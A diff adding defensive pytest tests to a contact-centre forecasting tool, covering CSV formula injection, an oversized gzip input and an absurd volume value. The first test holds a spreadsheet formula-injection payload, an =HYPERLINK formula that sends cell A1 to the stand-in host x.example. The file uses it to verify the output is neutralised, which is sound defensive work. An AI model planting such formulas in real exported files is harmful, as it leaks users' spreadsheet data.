@@ -138,3 +138,45 @@ def test_a_horizon_longer_than_the_history_is_forecast_with_a_note(tmp_path, cap
     assert "the horizon (40 days) is longer than the history (24 days)" in text
     f = forecast(out)
     assert len(f) == 40 * 24 and f["volume"].notna().all() and (f["volume_lo"] <= f["volume_hi"]).all()
+
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A1;"click")'
+
+
+def test_an_event_named_like_a_formula_is_written_formula_safe(tmp_path, capsys):
+    events = "event,kind,start,end,uplift\n" + '"' + FORMULA.replace('"', '""') + '",flash_sale,2026-02-18T15:00:00Z,2026-02-18T20:00:00Z,1.5\n'
+    code, _, out = run(tmp_path, capsys, counts(42), 7, events)
+    assert code == 0
+    f = pd.read_csv(out / "forecast.csv", keep_default_na=False, dtype=str)
+    marked = f[f["events"].str.contains("HYPERLINK", regex=False)]
+    assert len(marked) >= 5 and marked["events"].eq("'" + FORMULA).all()
+    for name in ("forecast.csv", "accuracy.csv"):
+        cells = [c for row in pd.read_csv(out / name, keep_default_na=False, dtype=str).itertuples(index=False) for c in row]
+        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), name
+        assert not any(c.startswith("-") and not c.lstrip("-").replace(".", "", 1).replace("e", "", 1).isdigit() for c in cells), name
+
+
+def test_a_gzip_history_that_unpacks_beyond_the_limit_is_bad_input(tmp_path, capsys, monkeypatch):
+    import gzip
+
+    from forecast.io import files
+
+    monkeypatch.setattr(files, "MAX_FILE_BYTES", 20_000)
+    h = tmp_path / "history.csv.gz"
+    h.write_bytes(gzip.compress(counts(42).to_csv(index=False).encode()))
+    code = main(["forecast", "--history", str(h), "--horizon-days", "7", "--out", str(tmp_path / "out")])
+    cap = capsys.readouterr()
+    text = " ".join((cap.out + cap.err).split())
+    assert code == 2 and "Traceback" not in text
+    assert "history.csv.gz: unpacks to more than 0.02 MB; the limit is 0.02 MB of uncompressed data per file" in text
+    assert not (tmp_path / "out" / "forecast.csv").exists()
+
+
+def test_a_volume_beyond_any_contact_centre_is_bad_input_with_line_and_column(tmp_path, capsys):
+    h = counts(42)
+    h["volume"] = h["volume"].astype(object)
+    h.loc[10, "volume"] = "1e308"
+    code, text, out = run(tmp_path, capsys, h, 7)
+    assert code == 2
+    assert "history.csv, line 12, column 'volume': 1e+308 contacts in one 60-minute interval is beyond any real contact centre" in text
+    assert not (out / "forecast.csv").exists()
